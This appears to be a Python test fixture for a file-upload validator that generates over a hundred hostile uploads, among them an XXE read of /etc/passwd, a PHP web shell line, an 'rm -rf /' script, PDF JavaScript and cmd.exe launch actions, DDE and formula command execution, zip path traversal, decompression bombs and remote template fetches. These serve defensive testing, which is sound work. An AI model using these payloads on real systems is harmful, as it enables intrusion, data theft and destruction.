"""What somebody could send in the place of an honest file, each made by code."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

from maillage.core.uploads import MAX_BYTES
from tests.core import upload_files as made

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
EMPTIES = b"<a>" + b"<b/><c/><dd/><e f='g'/>" * 260_000 + b"</a>"
ZEROS = b"\0" * 12_000_000
MACRO_TYPES = b"application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_TYPES = b"wordprocessingml.template.main+xml"


def _typed(types: bytes) -> bytes:
    """A DOCX that declares another type for its main part."""
    parts = made.parts_of(made.docx())
    name = "[Content_Types].xml"
    parts[name] = parts[name].replace(f"{made.WORD}.document.main+xml".encode(), types)
    return made.zipped(parts)


def _related(
    kind: str, target: str, mode: str = "External", part: str = "word/_rels/document.xml.rels"
) -> bytes:
    return made.with_relation(made.docx(), part, kind, target, mode)


def _overlapping() -> bytes:
    """Two entries of the table that share the same bytes."""
    content = made.zipped(
        {**made.parts_of(made.docx()), "word/a.bin": ZEROS[:90_000], "word/b.bin": bytes(range(256)) * 9000}
    )
    with zipfile.ZipFile(BytesIO(content)) as archive:
        first, second = archive.getinfo("word/a.bin"), archive.getinfo("word/b.bin")
    old = second.header_offset.to_bytes(4, "little")
    place = content.rindex(old)
    return content[:place] + first.header_offset.to_bytes(4, "little") + content[place + 4 :]


def _locked_zip() -> bytes:
    content = bytearray(made.docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


HOSTILE: dict[str, Callable[[Path], bytes]] = {
    # not what we take, whatever the name says
    "nothing": lambda _: b"",
    "one byte": lambda _: b"%",
    "svg with a script": lambda _: SVG,
    "html": lambda _: b"<!doctype html><script>alert(1)</script>",
    "html as gif": lambda _: b"GIF89a/*<html><script>*/",
    "windows program": lambda _: b"MZ\x90\0" + b"\0" * 400,
    "linux program": lambda _: b"\x7fELF" + b"\0" * 400,
    "shell script": lambda _: b"#!/bin/sh\nrm -rf /\n",
    "php": lambda _: b"<?php system($_GET['c']); ?>",
    "old word": lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rtf": lambda _: b"{\\rtf1\\objdata 0105}",
    "webp": lambda _: b"RIFF\0\0\0\0WEBPVP8 ",
    "heic": lambda _: b"\0\0\0\x18ftypheic\0\0",
    "null bytes": lambda _: b"\0" * 5000,
    "one byte too many": lambda _: b"%PDF-1.7\n" + b"0" * (MAX_BYTES - 8),
    # PDF
    "html called pdf": lambda _: b"%PDF-<html><script>alert(1)</script>",
    "pdf after html": lambda _: b"<html>" + made.pdf(),
    "pdf cut": lambda folder: made.typst_pdf(folder)[:-200],
    "pdf with a zip behind": lambda _: made.pdf(after=made.zipped({"a.exe": b"MZ"})),
    "pdf around a zip": lambda _: made.pdf(after=made.zipped({"a": b"MZ"}) + b"\n%%EOF\n"),
    "pdf with html behind": lambda _: made.pdf(after=b"\n<script>alert(1)</script>"),
    "pdf script": lambda _: made.pdf("<< /S /JavaScript /JS (app.alert) >>"),
    "pdf script spelt otherwise": lambda _: made.pdf("<< /S /J#61va#53cript /JS (app.alert) >>"),
    "pdf script from a library": made.scripted_pdf,
    "pdf script folded": lambda _: made.folded_pdf("5 0 << /S /JavaScript >>"),
    "pdf script folded and spelt otherwise": lambda _: made.folded_pdf("5 0 << /S /#4aavaScript >>"),
    "pdf script folded under another type": lambda _: made.folded_pdf("5 0 << /S /JavaScript >>", kind="/Metadata"),
    "pdf script far inside": lambda _: made.folded_pdf("0" * (1024 * 1024 - 5) + "/JavaScript"),
    "pdf script before a damaged end": lambda _: made.folded_pdf("5 0 << /S /JavaScript >>", damaged=True),
    "pdf of too many parts": lambda _: made.pdf("stream\nx" * 30_000),
    "pdf folded twice": lambda _: made.folded_pdf("x", filters="[/ASCII85Decode /FlateDecode]"),
    "pdf launches": lambda _: made.pdf("<< /S /Launch /F (cmd.exe) >>"),
    "pdf carries a program": made.carrying_pdf,
    "pdf sends a form": lambda _: made.pdf("<< /S /SubmitForm /F (http://exemple.fr) >>"),
    "pdf goes to a share": lambda _: made.pdf("<< /S /GoToE /F (\\\\\\\\exemple\\\\a) >>"),
    "pdf active form": lambda _: made.pdf("<< /AcroForm << /XFA 5 0 R >> >>"),
    "pdf film": lambda _: made.pdf("<< /Subtype /RichMedia >>"),
    "pdf link that runs": lambda _: made.pdf("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"),
    "pdf part from outside": lambda _: made.pdf("<< /F << /FS /URL /F (http://exemple.fr/a) >> >>"),
    "pdf in relief that runs": lambda _: made.pdf("<< /Type /3D /OnInstantiate 5 0 R >>"),
    "pdf locked": made.encrypted_pdf,
    "pdf bomb": lambda _: made.folded_pdf("0" * 300_000_000),
    # pictures
    "png cut": lambda _: made.png((300, 300))[:400],
    "jpeg cut": lambda _: made.jpg((300, 300))[:500],
    "png signature alone": lambda _: b"\x89PNG\r\n\x1a\n",
    "png signature then html": lambda _: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    "jpeg signature then php": lambda _: b"\xff\xd8\xff\xe0<?php",
    "png of a billion pixels": lambda _: made.huge_png(60_000, 60_000),
    "png very wide": lambda _: made.huge_png(2_000_000, 1),
    "png of no pixel": lambda _: made.huge_png(0, 0),
    # archives
    "any zip": lambda _: made.zipped({"a.txt": b"a"}),
    "zip without a part": lambda _: b"PK\x03\x04" + made.zipped({}),
    "docx bomb": lambda _: made.with_part(made.docx(), "word/media/a.bin", ZEROS),
    "docx of many parts": lambda _: made.zipped({**made.parts_of(made.docx()), **{f"a{n}.xml": b"<a/>" for n in range(200)}}),
    "docx that shares its bytes": lambda _: _overlapping(),
    "docx in a docx": lambda _: made.with_part(made.docx(), "word/media/image9.png", made.docx()),
    "docx with a workbook inside": lambda _: made.with_part(made.docx(), "word/embeddings/a.xlsx", made.xlsx()),
    "docx with a program": lambda _: made.with_part(made.docx(), "word/media/image9.png", b"MZ\x90\0"),
    "docx with a path out": lambda _: made.with_part(made.docx(), "../../etc/cron.d/a", b"x"),
    "docx with a page": lambda _: made.with_part(made.docx(), "word/page.html", b"<script/>"),
    "docx behind a program": lambda _: b"PK\x03\x04" + made.docx(),
    "docx with a program behind": lambda _: made.docx() + b"MZ\x90\0",
    "docx with a comment": lambda _: made.zipped(made.parts_of(made.docx()), comment=b"<script>"),
    "docx cut": lambda _: made.docx()[:-100],
    "docx locked": lambda _: _locked_zip(),
    "docx folded otherwise": lambda _: made.zipped(made.parts_of(made.docx()), method=zipfile.ZIP_BZIP2),
    # documents
    "docm": lambda _: _typed(MACRO_TYPES),
    "dotx": lambda _: _typed(made.WORD.encode().replace(b"wordprocessingml", TEMPLATE_TYPES)),
    "docx with macros": lambda _: made.with_part(made.docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    "docx with an entity": lambda _: made.with_part(made.docx(), "word/settings.xml", XXE),
    "docx with an entity in utf-16": lambda _: made.with_part(
        made.docx(), "word/settings.xml", XXE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")
    ),
    "docx with an entity under another name": lambda _: made.with_part(made.docx(), "word/media/a.emf", LAUGHS),
    "docx with a template from outside": lambda _: _related(
        "attachedTemplate", "http://exemple.fr/a.dotm", part="word/_rels/settings.xml.rels"
    ),
    "docx with a template on a share": lambda _: _related(
        "attachedTemplate", "file:///\\\\exemple\\a.dotm", part="word/_rels/settings.xml.rels"
    ),
    "docx with a picture from outside": lambda _: _related("image", "http://exemple.fr/a.png"),
    "docx with an object from outside": lambda _: _related("oleObject", "http://exemple.fr/a.html"),
    "docx with a picture from outside, in capitals": lambda _: _related(
        "image", "http://exemple.fr/a.png", part="word/_rels/document.xml.RELS"
    ),
    "docx with an old picture from outside": lambda _: made.with_body(
        made.docx(), '<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://exemple.fr/a.png"/></w:p>'
    ),
    "docx with a drawing that fetches": lambda _: made.with_part(
        made.docx(), "word/media/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://exemple.fr/a"/></svg>'
    ),
    "docx with an add-in": lambda _: _related("webextensiontaskpanes", "webextensions/taskpanes.xml", "Internal", "_rels/.rels"),
    "docx of empty elements": lambda _: made.with_part(made.docx(), "word/settings.xml", EMPTIES),
    "docx endlessly deep": lambda _: made.with_part(made.docx(), "word/settings.xml", b"<a>" * 200_000),
    "docx with a page poured in": lambda _: _related("aFChunk", "page.mht", "Internal"),
    "docx with a link that runs": lambda _: made.docx(link="javascript:alert(1)"),
    "docx with a link to a share": lambda _: made.docx(link="file://exemple/a"),
    "docx with an exchange": lambda _: made.with_body(made.docx(), made.field("DDEAUTO c:\\\\cmd.exe")),
    "docx with an exchange in pieces": lambda _: made.with_body(made.docx(), made.field("DD", "EAU", "TO cmd")),
    "docx with an included file": lambda _: made.with_body(
        made.docx(), '<w:p><w:fldSimple w:instr=" INCLUDETEXT http://exemple.fr "/></w:p>'
    ),
    "docx with a scripted drawing": lambda _: made.with_part(made.docx(), "word/media/a.svg", SVG),
    "docx with broken xml": lambda _: made.with_part(made.docx(), "word/settings.xml", b"<a><b></a>"),
    "xlsx with another workbook": lambda _: made.with_relation(
        made.xlsx(), "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "Internal"
    ),
    "xlsx with a connection": lambda _: made.with_relation(
        made.xlsx(), "xl/_rels/workbook.xml.rels", "connections", "connections.xml", "Internal"
    ),
    "xlsx that calls a service": lambda _: made.xlsx(formula='=_xlfn.WEBSERVICE("http://exemple.fr")'),
    "xlsx that runs a command": lambda _: made.xlsx(formula="=cmd|'/C calc'!A0"),
    "odt with macros": lambda _: made.odt(extra={"Basic/Standard/Module1.xml": b"<a/>"}),
    "odt with a script": lambda _: made.odt(body="<office:script/>"),
    "odt with an entity": lambda _: made.odt(extra={"styles.xml": XXE}),
    "odt with a picture from outside": lambda _: made.odt(body='<draw:image xlink:href="http://exemple.fr/a.png"/>'),
    "odt with a file of the reader": lambda _: made.odt(body='<text:section-source xlink:href="file:///etc/passwd"/>'),
    "odt with an exchange": lambda _: made.odt(body='<text:dde-connection-decl/>'),
    "odt with a formula that calls": lambda _: made.odt(
        extra={"Object 1/content.xml": b'<t xmlns:t="urn:t" t:formula="of:=WEBSERVICE(&quot;http://exemple.fr&quot;)"/>'}
    ),
    "odt with a link that runs": lambda _: made.odt(body='<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
    "odt that is a drawing": lambda _: made.odt(mimetype="application/vnd.oasis.opendocument.graphics"),
}  # fmt: skip
